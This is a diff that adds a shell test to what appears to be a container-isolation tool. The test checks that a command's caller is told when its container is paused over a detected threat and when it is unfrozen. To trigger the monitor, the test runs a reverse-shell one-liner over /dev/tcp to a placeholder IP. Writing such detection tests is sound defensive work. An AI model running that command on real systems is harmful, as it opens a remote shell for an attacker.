@@ -258,6 +258,24 @@ cleaned() { # NAME: no supervisor of it is left
 	not grep -q monitoring <<<"$stderr"
 }
 
+@test "who waits for a command is told when its container is paused" {
+	settings 'auto_pause_on_high = true' 'auto_kill_on_critical = false'
+	local name pid
+	make_workspace "$T/paused"
+	cd "$T/paused"
+	name=$(container_name)
+	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 3; echo went on' 3>&- >"$T/out" 2>"$T/told" &
+	pid=$!
+	within 30 grep -q "'$name' is paused.*'coi unfreeze $name'" "$T/told"
+	run -0 --separate-stderr coi unfreeze "$name"
+	grep -q "was frozen for: " <<<"$stderr$output"
+	# The connection is a threat of its own, and may come after the shell's.
+	let_go() { coi unfreeze "$name" || true; grep -qx "went on" "$T/out"; }
+	within 30 let_go
+	wait $pid
+	grep -q "'$name' goes on" "$T/told"
+}
+
 # A journal of the test's own, where the host's would be.
 journal() { # FILE: datagrams, one after the other
 	/usr/bin/python3 -c 'import os, socket, sys
